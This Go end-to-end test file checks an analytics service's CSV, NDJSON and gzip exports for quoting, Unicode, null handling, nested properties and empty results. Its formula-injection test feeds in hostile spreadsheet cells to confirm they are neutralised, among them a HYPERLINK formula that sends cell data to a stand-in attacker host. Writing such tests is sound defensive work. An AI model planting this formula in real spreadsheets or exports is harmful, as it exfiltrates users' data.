package e2e

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"io"
	"strings"
	"testing"
)

var may1 = day("2024-05-01", "2024-05-02")

func TestCaseBUG01DelimitersAndLineBreaks(t *testing.T) {
	e := newEnv(t)
	e.ingest(`
{"event_id":"e1","ts":"2024-05-01T10:00:00.000Z","target_text":"Save, \"draft\"\nnow"}
{"event_id":"e2","ts":"2024-05-01T10:00:01.000Z","target_text":"line1\r\nline2"}
{"event_id":"e3","ts":"2024-05-01T10:00:02.000Z","target_text":"a\rb"}
{"event_id":"e4","ts":"2024-05-01T10:00:03.000Z","target_text":"plain"}
{"event_id":"e5","ts":"2024-05-01T10:00:04.000Z","target_text":" padded "}`)
	fields := []string{"EventId", "EventTargetText"}
	got := e.csvExport(map[string]any{"fields": fields, "timeRange": may1})
	want := "EventId,EventTargetText\n" +
		"e1,\"Save, \"\"draft\"\"\nnow\"\n" +
		"e2,\"line1\r\nline2\"\n" +
		"e3,\"a\rb\"\n" +
		"e4,plain\n"
	if !strings.HasPrefix(got, want) || (got[len(want):] != "e5, padded \n" &&
		got[len(want):] != "e5,\" padded \"\n") {
		t.Errorf("CSV = %q", got)
	}
	nd := e.csvExport(map[string]any{"fields": fields, "timeRange": may1, "format": "FORMAT_NDJSON"})
	if n := strings.Count(nd, "\n"); n != 5 {
		t.Errorf("NDJSON has %d lines, want 5: %q", n, nd)
	}
	if first := strings.SplitN(nd, "\n", 2)[0]; first != `{"EventId":"e1","EventTargetText":"Save, \"draft\"\nnow"}` {
		t.Errorf("NDJSON e1 = %s", first)
	}
}

func TestCaseBUG02FormulaInjection(t *testing.T) {
	e := newEnv(t)
	e.ingest(`
{"event_id":"e1","ts":"2024-05-01T10:00:00.000Z","target_text":"Apply","props":{"coupon":"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Claim\")"}}
{"event_id":"e2","ts":"2024-05-01T10:00:01.000Z","target_text":"+SUM(1,2)"}
{"event_id":"e3","ts":"2024-05-01T10:00:02.000Z","target_text":"@cmd"}
{"event_id":"e4","ts":"2024-05-01T10:00:03.000Z","target_text":"-2+3"}
{"event_id":"e5","ts":"2024-05-01T10:00:04.000Z","target_text":"\t=1+1"}
{"event_id":"e6","ts":"2024-05-01T10:00:05.000Z","target_text":"\r=2"}
{"event_id":"e7","ts":"2024-05-01T10:00:06.000Z","target_text":"Adjust","props":{"delta":-5}}
{"event_id":"e8","ts":"2024-05-01T10:00:07.000Z","target_text":"'=already"}
{"kind":"traits","user_id":"u-9","ts":"2024-05-01T09:00:00.000Z","traits":{"display_name":"=2+5"}}
{"event_id":"e9","user_id":"u-9","anon_id":"a-9","ts":"2024-05-01T10:00:08.000Z"}`)
	fields := []string{"EventId", "EventTargetText", "evt_coupon_str", "evt_delta_real"}
	want := "EventId,EventTargetText,evt_coupon_str,evt_delta_real\n" +
		"e1,Apply,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Claim\"\")\",\n" +
		"e2,\"'+SUM(1,2)\",,\n" +
		"e3,'@cmd,,\n" +
		"e4,'-2+3,,\n" +
		"e5,'\t=1+1,,\n" +
		"e6,\"'\r=2\",,\n" +
		"e7,Adjust,,-5\n" +
		"e8,'=already,,\n" +
		"e9,,,\n"
	wantText(t, e.csvExport(map[string]any{"fields": fields, "timeRange": may1}), want)

	// The all-fields path neutralises the same cells.
	all := e.csvExport(map[string]any{"timeRange": may1})
	for _, cell := range []string{"\"'+SUM(1,2)\"", "'@cmd", "'-2+3", "'=already"} {
		if !strings.Contains(all, cell) {
			t.Errorf("all-fields CSV lacks %q", cell)
		}
	}
	if strings.Contains(all, "''=") {
		t.Error("all-fields CSV escaped a cell twice")
	}
	people := e.csvExport(map[string]any{"type": "TYPE_INDIVIDUAL",
		"fields": []string{"UserAppKey", "UserDisplayName"}, "timeRange": may1})
	if !strings.Contains(people, "\nu-9,'=2+5\n") {
		t.Errorf("individuals CSV = %q, want the row u-9,'=2+5", people)
	}
	nd := e.csvExport(map[string]any{"fields": fields, "timeRange": may1, "format": "FORMAT_NDJSON"})
	if strings.Contains(nd, "'") && !strings.Contains(nd, `"'=already"`) {
		t.Errorf("NDJSON carries an escape: %s", nd)
	}
}

func TestCaseBUG03Unicode(t *testing.T) {
	e := newEnv(t)
	e.ingest(`
{"event_id":"e1","ts":"2024-05-01T10:00:00.000Z","target_text":"Añadir al carrito 🛒"}
{"event_id":"e2","ts":"2024-05-01T10:00:01.000Z","target_text":"数量を変更"}
{"event_id":"e3","ts":"2024-05-01T10:00:02.000Z","target_text":"👩‍👩‍👧 family"}
{"event_id":"e4","ts":"2024-05-01T10:00:03.000Z","target_text":"שלום עולם"}
{"event_id":"e5","ts":"2024-05-01T10:00:04.000Z","target_text":"e\u0301"}`)
	fields := []string{"EventId", "EventTargetText"}
	got := e.csvExport(map[string]any{"fields": fields, "timeRange": may1})
	want := "EventId,EventTargetText\ne1,Añadir al carrito 🛒\ne2,数量を変更\n" +
		"e3,👩\u200d👩\u200d👧 family\ne4,שלום עולם\ne5,e\u0301\n"
	wantText(t, got, want)
	bom := e.csvExport(map[string]any{"fields": fields, "timeRange": may1,
		"csv": map[string]any{"bom": true}})
	if bom != "\ufeff"+want {
		t.Errorf("CSV with BOM = %q", bom)
	}
}

func TestCaseBUG06NullVersusEmpty(t *testing.T) {
	e := newEnv(t)
	e.ingest(`
{"kind":"traits","user_id":"u-1","ts":"2024-05-01T09:00:00.000Z","traits":{"plan":""}}
{"kind":"traits","user_id":"u-2","ts":"2024-05-01T09:00:00.000Z","traits":{"plan":null}}
{"kind":"traits","user_id":"u-3","ts":"2024-05-01T09:00:00.000Z","traits":{}}
{"kind":"traits","user_id":"u-4","ts":"2024-05-01T09:00:00.000Z","traits":{"plan":"free","seats":0,"trial":false}}
{"event_id":"e-u1","user_id":"u-1","anon_id":"a-u1","ts":"2024-05-01T10:00:00.000Z"}
{"event_id":"e-u2","user_id":"u-2","anon_id":"a-u2","ts":"2024-05-01T10:00:00.000Z"}
{"event_id":"e-u3","user_id":"u-3","anon_id":"a-u3","ts":"2024-05-01T10:00:00.000Z"}
{"event_id":"e-u4","user_id":"u-4","anon_id":"a-u4","ts":"2024-05-01T10:00:00.000Z"}`)
	fields := []string{"UserAppKey", "user_plan_str", "user_seats_real", "user_trial_bool"}
	wantText(t, e.csvExport(map[string]any{"type": "TYPE_INDIVIDUAL", "fields": fields, "timeRange": may1}),
		"UserAppKey,user_plan_str,user_seats_real,user_trial_bool\n"+
			"u-1,\"\",,\nu-2,,,\nu-3,,,\nu-4,free,0,false\n")
	wantText(t, e.csvExport(map[string]any{"type": "TYPE_INDIVIDUAL", "fields": fields,
		"timeRange": may1, "format": "FORMAT_NDJSON"}),
		`{"UserAppKey":"u-1","user_plan_str":""}`+"\n"+
			`{"UserAppKey":"u-2"}`+"\n"+
			`{"UserAppKey":"u-3"}`+"\n"+
			`{"UserAppKey":"u-4","user_plan_str":"free","user_seats_real":0,"user_trial_bool":false}`+"\n")
}

func TestCaseBUG07NestedProperties(t *testing.T) {
	e := newEnv(t)
	e.ingest(`
{"event_id":"e1","type":"custom","name":"add_to_cart","ts":"2024-05-01T10:00:00.000Z","props":{"cart":{"total":19.5,"items":[{"sku":"A1","qty":2},{"sku":"B7","qty":1}]},"tags":["new","promo"]}}`)
	// Objects flatten into dotted names; a list of objects is kept as its
	// compact JSON text, keys in the order the client sent them.
	fields := []string{"EventId", "evt_cart.items_str", "evt_tags_strs", "evt_cart.total_real"}
	wantText(t, e.csvExport(map[string]any{"fields": fields, "timeRange": may1}),
		"EventId,evt_cart.items_str,evt_tags_strs,evt_cart.total_real\n"+
			`e1,"[{""sku"":""A1"",""qty"":2},{""sku"":""B7"",""qty"":1}]","[""new"",""promo""]",19.5`+"\n")
	wantText(t, e.csvExport(map[string]any{"fields": fields, "timeRange": may1, "format": "FORMAT_NDJSON"}),
		`{"EventId":"e1","evt_cart.items_str":"[{\"sku\":\"A1\",\"qty\":2},{\"sku\":\"B7\",\"qty\":1}]","evt_tags_strs":["new","promo"],"evt_cart.total_real":19.5}`+"\n")

	// A literal key with a dot is refused, never read as a nested path.
	batch := map[string]any{"org": string(testOrg), "device": "a-1", "events": []any{
		map[string]any{"id": "e2", "type": "custom", "name": "add_to_cart",
			"ts": "2024-05-01T10:01:00Z", "props": map[string]any{"cart.total": 7}}}}
	var out struct{ Message string }
	if code := e.callKey("", "POST", "/rec/events", batch, &out); code != 400 ||
		!strings.Contains(out.Message, "cart.total") {
		t.Errorf("dotted key: HTTP %d %q, want 400 naming it", code, out.Message)
	}
}

func TestCaseBUG08OneKeyFourTypes(t *testing.T) {
	e := newEnv(t)
	e.ingest(`
{"event_id":"e1","ts":"2024-05-01T10:00:00.000Z","props":{"qty":2}}
{"event_id":"e2","ts":"2024-05-01T10:00:01.000Z","props":{"qty":2.5}}
{"event_id":"e3","ts":"2024-05-01T10:00:02.000Z","props":{"qty":"3 items"}}
{"event_id":"e4","ts":"2024-05-01T10:00:03.000Z","props":{"qty":true}}
{"event_id":"e5","ts":"2024-05-01T10:00:04.000Z","props":{"qty":null}}
{"event_id":"e6","ts":"2024-05-01T10:00:05.000Z","props":{}}
{"event_id":"e7","ts":"2024-05-01T10:00:06.000Z","props":{"qty":0.1}}`)
	// Documented: one key sent with several types becomes typed siblings.
	got := e.csvExport(map[string]any{"fields": []string{"EventId", "evt_*"}, "timeRange": may1})
	wantText(t, got, "EventId,evt_qty_bool,evt_qty_real,evt_qty_str\n"+
		"e1,,2,\ne2,,2.5,\ne3,,,3 items\ne4,true,,\ne5,,,\ne6,,,\ne7,,0.1,\n")
}

func TestCaseBUG29SingleMemberGzip(t *testing.T) {
	e := newEnv(t)
	e.ingest(`
{"event_id":"e1","ts":"2024-05-01T10:00:00.000Z"}
{"event_id":"e2","ts":"2024-05-01T10:00:01.000Z"}
{"event_id":"e3","ts":"2024-05-01T10:00:02.000Z"}`)
	raw, resp := e.rawExport(map[string]any{"segmentId": "everyone", "type": "TYPE_EVENT",
		"format": "FORMAT_NDJSON", "compression": "COMPRESSION_GZIP",
		"fields": []string{"EventId"}, "timeRange": may1})
	if !bytes.HasPrefix(raw, []byte{0x1f, 0x8b, 0x08}) {
		t.Fatalf("file starts % x, want 1f 8b 08", raw[:3])
	}
	zr, _ := gzip.NewReader(bytes.NewReader(raw))
	zr.Multistream(false)
	plain, _ := io.ReadAll(zr)
	if want := "{\"EventId\":\"e1\"}\n{\"EventId\":\"e2\"}\n{\"EventId\":\"e3\"}\n"; string(plain) != want {
		t.Errorf("single-member read = %q, want %q", plain, want)
	}
	if isize := binary.LittleEndian.Uint32(raw[len(raw)-4:]); int(isize) != len(plain) {
		t.Errorf("ISIZE = %d, want %d", isize, len(plain))
	}
	h := resp.Header
	if h.Get("Content-Encoding") != "" || h.Get("Content-Type") != "application/gzip" ||
		!strings.Contains(h.Get("Content-Disposition"), ".ndjson.gz") {
		t.Errorf("headers: %v", h)
	}
	pq, _ := e.rawExport(map[string]any{"segmentId": "everyone", "type": "TYPE_EVENT",
		"format": "FORMAT_PARQUET", "compression": "COMPRESSION_GZIP", "timeRange": may1})
	if !bytes.HasPrefix(pq, []byte("PAR1")) {
		t.Errorf("gzip Parquet starts % x, want PAR1 (codec inside the file)", pq[:4])
	}
}

func TestCaseBUG35EmptyIsNotAnError(t *testing.T) {
	e := newEnv(t)
	e.ingest(`{"event_id":"e1","ts":"2024-01-01T10:00:00.000Z","props":{"qty":2}}`)
	feb := day("2024-02-01", "2024-02-02")
	fields := []string{"EventId", "EventStart", "evt_qty_real"}
	wantText(t, e.csvExport(map[string]any{"fields": fields, "timeRange": feb}),
		"EventId,EventStart,evt_qty_real\n")
	wantText(t, e.csvExport(map[string]any{"fields": fields, "timeRange": feb, "format": "FORMAT_JSON"}), "[]")
	wantText(t, e.csvExport(map[string]any{"fields": fields, "timeRange": feb, "format": "FORMAT_NDJSON"}), "")
	gz, _ := e.rawExport(map[string]any{"segmentId": "everyone", "type": "TYPE_EVENT",
		"format": "FORMAT_NDJSON", "fields": fields, "timeRange": feb})
	if zr, err := gzip.NewReader(bytes.NewReader(gz)); err != nil {
		t.Errorf("empty gzip: %v", err)
	} else if b, err := io.ReadAll(zr); err != nil || len(b) != 0 {
		t.Errorf("empty gzip payload = %q, %v", b, err)
	}
	// start == end is an empty success; start after end is a 400.
	wantText(t, e.csvExport(map[string]any{"fields": fields,
		"timeRange": day("2024-02-01T00:00:00Z", "2024-02-01T00:00:00Z")}), "EventId,EventStart,evt_qty_real\n")
	for _, field := range []string{"evt_", "evnt_time"} {
		var out struct{ Message string }
		code := e.call("POST", "/segments/v1/exports", map[string]any{"segmentId": "everyone",
			"type": "TYPE_EVENT", "format": "FORMAT_CSV", "fields": []string{field}}, &out)
		if code != 400 || !strings.Contains(out.Message, field) {
			t.Errorf("field %q: HTTP %d %q", field, code, out.Message)
		}
	}
}
